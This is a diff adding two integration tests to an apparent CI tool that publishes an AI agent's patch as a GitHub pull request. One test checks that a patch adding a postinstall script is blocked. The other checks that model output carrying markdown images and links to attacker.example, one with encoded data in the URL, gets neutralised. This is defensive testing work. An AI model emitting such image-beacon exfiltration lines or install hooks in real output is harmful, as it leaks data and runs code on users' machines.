@@ -2,7 +2,7 @@
 // payload: a real run's output folder is published to a git remote served by `git http-backend` (the
 // runner's GITHUB_SERVER_URL points there) and the fake GitHub API. local-action stubs @actions/core and
 // prints the outputs; a failed step still exits 0, so the assertions read its output.
-import { execFile, spawn } from "node:child_process";
+import { execFile, execFileSync, spawn } from "node:child_process";
 import fs from "node:fs";
 import os from "node:os";
 import path from "node:path";
@@ -11,7 +11,7 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { startFakeGitHub, type FakeGitHub } from "../support/fake-github.js";
 import { githubEnv, runnerFiles } from "../support/github-env.js";
 import { addBareRepo, startGitRemote, type GitRemote } from "../support/git-remote.js";
-import { realRunFolder, type RunFolder } from "../support/publish-fixture.js";
+import { patchWriting, realRunFolder, runVariant, type RunFolder } from "../support/publish-fixture.js";
 
 const root = path.resolve(import.meta.dirname, "../..");
 const TOKEN = ["ghs", "localPublishToken0123456789abcdefAB"].join("_");
@@ -122,6 +122,74 @@ describe("npx local-action run publish ../src/publish/action.ts .env", () => {
       const result = await localPublish({ artifact_path: run.outDir, token: TOKEN, max_patch_bytes: "10" });
       expect(result.stdout).toMatch(/::error::agent-ci publish: not published:.*over the limit of 10/s);
       expect(result.outputs.pr_number).toBeUndefined();
+    },
+  );
+
+  const remoteBranches = () =>
+    execFileSync("git", ["for-each-ref", "--format=%(refname:short)", "refs/heads"], {
+      cwd: remote.repoDir("acme", "widgets"),
+      encoding: "utf8",
+    });
+
+  it(
+    "B7 refuses a patch that adds a postinstall script with nothing pushed; allow_findings lets it through and the pull request says so",
+    { timeout: 180_000 },
+    async () => {
+      const out = runVariant(run.outDir, {
+        runId: "action-postinstall",
+        patch: patchWriting(run.workspace, {
+          "package.json": '{\n  "name": "calc",\n  "scripts": { "postinstall": "node setup.js" }\n}\n',
+        }),
+      });
+      const refs = remoteBranches();
+      const writes = fake.writes().length;
+      const refused = await localPublish({ artifact_path: out, token: TOKEN });
+      expect(refused.stdout).toMatch(
+        /::error::agent-ci publish: not published:.*package\.json:3 lifecycle_script.*allow_findings: lifecycle_script/s,
+      );
+      expect(refused.outputs.pr_number).toBeUndefined();
+      expect(remoteBranches()).toBe(refs);
+      expect(fake.writes().length).toBe(writes);
+
+      const allowed = await localPublish({
+        artifact_path: out,
+        token: TOKEN,
+        allow_findings: "lifecycle_script",
+      });
+      expect(allowed.stdout).not.toContain("::error::");
+      expect(allowed.outputs.action).toBe("created");
+      expect(fake.pulls.get(Number(allowed.outputs.pr_number))?.body).toMatch(
+        /Published past the publish gate with `--allow-finding` \(`allow_findings`: lifecycle_script\)[\s\S]*<code>package\.json<\/code> line 3/,
+      );
+
+      const unknown = await localPublish({ artifact_path: out, token: TOKEN, allow_findings: "everything" });
+      expect(unknown.stdout).toMatch(
+        /::error::agent-ci publish: allow_findings: unknown finding kind\(s\) "everything"/,
+      );
+    },
+  );
+
+  it(
+    "B6 the model's image, raw HTML and outside link reach the fake GitHub neutralised",
+    { timeout: 180_000 },
+    async () => {
+      const out = runVariant(run.outDir, {
+        runId: "action-inert",
+        finalText:
+          "Fixed add().\n![](https://attacker.example/?d=c2VjcmV0)\n<img src=https://attacker.example/i>\n[more](https://attacker.example/x)\n<!--",
+      });
+      const before = fake.writes().length;
+      const result = await localPublish({ artifact_path: out, token: TOKEN });
+      expect(result.stdout).not.toContain("::error::");
+      const request = fake
+        .writes()
+        .slice(before)
+        .find((w) => w.method === "POST" && w.path.endsWith("/pulls"));
+      const body = (JSON.parse(request?.body ?? "{}") as { body?: string }).body ?? "";
+      const afterMarker = body.slice(body.indexOf("\n") + 1);
+      expect(afterMarker).toContain("Fixed add().");
+      expect(afterMarker).not.toMatch(/!\[\]\(|<img|<!--|\]\(https:\/\/attacker|https:\/\/attacker/);
+      expect(afterMarker.replace(/\u200b/g, "")).toContain("https://attacker.example/?d=c2VjcmV0");
     },
   );
 });
